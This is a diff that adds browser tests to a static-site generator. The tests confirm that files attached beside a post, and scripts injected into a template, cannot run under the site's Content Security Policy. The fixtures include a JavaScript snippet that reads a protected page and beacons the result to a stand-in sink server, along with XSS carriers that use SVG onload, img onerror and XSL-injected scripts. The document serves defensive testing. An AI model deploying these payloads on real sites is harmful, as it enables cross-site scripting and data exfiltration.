@@ -2,10 +2,14 @@
 
 from __future__ import annotations
 
+import io
 import re
+import struct
 import threading
+import wave
+import zlib
 from collections.abc import Iterator
-from contextlib import contextmanager
+from contextlib import contextmanager, suppress
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
@@ -583,6 +587,142 @@ def test_other_sites_see_nothing(browser: Browser, root: Path, elsewhere: Any, o
           const stream = new EventSource('/__devlog__/events?page=/devlogs/');
           stream.addEventListener('update', () => (stream.close(), good(true)));
         })""")
+
+
+# --- files that somebody put beside a post ---
+
+LEAK = """\
+(async () => {
+  const text = await (await fetch(SECRET)).text();
+  new Image().src = SINK + "?" + encodeURIComponent(text.includes("for a day") ? "read" : "nothing");
+  navigator.sendBeacon(SINK + "?beacon");
+})();
+new Image().src = SINK + "?ran";
+"""
+SECRET = f"{BASE}kernels/2026-05-05-b/"
+CARRIERS = {
+    "a.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script href="demo.js"/></svg>',
+    "handler.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="CODE"></svg>',
+    "inline.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>CODE</script></svg>',
+    "a.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><head><script src="demo.js"></script></head><body/></html>',
+    "a.html": '<!doctype html><body><script src="demo.js"></script><img src="x:" onerror="CODE">',
+    "a.xml": '<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script src="demo.js"/></x:html>',
+    "page.xsl.xml": '<?xml-stylesheet type="text/xsl" href="page.xsl"?><a/>',
+    "page.xsl": (
+        '<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/">'
+        '<html xmlns="http://www.w3.org/1999/xhtml"><script src="demo.js"></script></html></x:template></x:stylesheet>'
+    ),
+    "frame.html": f'<!doctype html><body><iframe src="{BASE}a.html"></iframe><object data="{BASE}a.svg"></object>',
+    "refresh.html": f'<!doctype html><meta http-equiv="refresh" content="0;url={BASE}a.html">',
+    "form.html": '<!doctype html><body><form action="SINK"></form>',
+    "noending": '<!doctype html><script src="demo.js"></script>',
+}
+
+
+def sink_of(server: Any) -> tuple[str, list[str]]:
+    """The address of somebody else's server, and what it is asked."""
+    asked: list[str] = []
+    handler = server.RequestHandlerClass
+
+    def note(self: Any, *_: Any) -> None:
+        asked.append(self.path)
+
+    handler.log_request = note
+    return f"http://127.0.0.1:{server.server_address[1]}/sink", asked
+
+
+@pytest.mark.parametrize("folder", ["static", "content"])
+def test_attachments_run_nothing(browser: Browser, root: Path, elsewhere: Any, folder: str) -> None:
+    sink, asked = sink_of(elsewhere)
+    code = LEAK.replace("SECRET", repr(SECRET)).replace("SINK", repr(sink))
+    inline = code.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
+    files = {name: text.replace("CODE", inline).replace("SINK", sink) for name, text in CARRIERS.items()}
+    wrong: list[str] = []
+    write_site(root, {f"{folder}/{name}": text for name, text in {**files, "demo.js": code}.items()})
+    with serving(root) as running, opened(browser, wrong) as tab:
+        for name in CARRIERS:
+            with suppress(Exception):  # what is no page of its own is saved instead
+                tab.goto(f"http://127.0.0.1:{running.port}{BASE}{name}")
+            tab.wait_for_timeout(300)
+            assert asked == [], name
+        # It is no matter of the file's text: somebody else's server, which says nothing, has it run.
+        elsewhere.RequestHandlerClass.html = f"<!doctype html><script>{code}</script>".encode()
+        tab.goto(sink.replace("/sink", "/"))
+        wait_for(lambda: any("ran" in path for path in asked), "the script itself")
+
+
+def test_pages_run_no_attachments(browser: Browser, root: Path, elsewhere: Any) -> None:
+    """Whatever gets into a page: not even a template that lets a post's own HTML through brings scripts of the site."""
+    sink, asked = sink_of(elsewhere)
+    code = LEAK.replace("SECRET", repr(SECRET)).replace("SINK", repr(sink))
+    base = (REPOSITORY / "themes/default/templates/base.html").read_text("utf-8")
+    injected = "<script src=\"{{ site.url ~ 'demo' ~ '.js' }}\"></script><img src='x:' onerror='fetch(0)'></body>"
+    write_site(root, {"static/demo.js": code, "templates/base.html": base.replace("</body>", injected)})
+    wrong: list[str] = []
+    with serving(root) as running, opened(browser, wrong) as tab:
+        visit(tab, running)
+        has_text(tab, "Paragraph 59")
+        wait_for(lambda: any("Content Security Policy" in text for text in wrong), "the refusal")
+        assert any("demo.js" in text for text in wrong), wrong
+        assert asked == []
+
+
+def wave_file() -> bytes:
+    """A second of silence."""
+    written = io.BytesIO()
+    with wave.open(written, "wb") as file:
+        file.setnchannels(1)
+        file.setsampwidth(1)
+        file.setframerate(8000)
+        file.writeframes(bytes([128]) * 8000)
+    return written.getvalue()
+
+
+def picture() -> bytes:
+    """Seven black pixels."""
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 7, 1, 8, 0, 0, 0, 0))
+    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(bytes(8))) + chunk(b"IEND", b"")
+
+
+def test_media_are_shown_and_played(browser: Browser, root: Path) -> None:
+    """Opened by themselves too, though browsers make pages of them."""
+    sound = wave_file()
+    svg = (
+        '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="60"><style>rect { fill: red }</style><rect/></svg>'
+    )
+    write_site(root, {"static/a.svg": svg, "static/a.png": picture(), "static/a.wav": sound})
+    wrong: list[str] = []
+    with serving(root) as running, opened(browser, wrong) as tab:
+        base = f"http://127.0.0.1:{running.port}{BASE}"
+        tab.goto(f"{base}a.png")
+        assert tab.evaluate("document.images[0].naturalWidth") == 7
+        tab.goto(f"{base}a.wav")
+        tab.wait_for_function("() => document.querySelector('video, audio').duration > 0.9", timeout=PATIENCE)
+        tab.evaluate("document.querySelector('video, audio').currentTime = 0.5")
+        tab.wait_for_function("() => document.querySelector('video, audio').currentTime >= 0.5", timeout=PATIENCE)
+        tab.goto(f"{base}a.svg")
+        assert tab.evaluate("getComputedStyle(document.querySelector('rect')).fill") == "rgb(255, 0, 0)"
+    assert wrong == []
+
+
+def test_images_of_other_hosts_are_shown_where_a_page_names_them(browser: Browser, root: Path, elsewhere: Any) -> None:
+    sink, asked = sink_of(elsewhere)
+    remote = sink.replace("/sink", "/remote.png")
+    wrong: list[str] = []
+    with serving(root) as running, opened(browser, wrong) as tab:
+        visit(tab, running)
+        tab.evaluate("url => { new Image().src = url }", sink)
+        wait_for(lambda: any("Content Security Policy" in text for text in wrong), "the refusal")
+        assert asked == []
+        running.write(FILE, LONG + f"\n![Remote]({remote})\n")
+        becomes(tab, "document.querySelector('.e-content img') !== null")
+        tab.evaluate("scrollTo(0, 1e9)")  # images wait until they are near
+        wait_for(lambda: bool(asked), "the picture")
+        assert {path.partition("?")[0] for path in asked} == {"/remote.png"}
 
 
 def test_another_name_for_this_machine(running: Serving, browser: Browser) -> None:
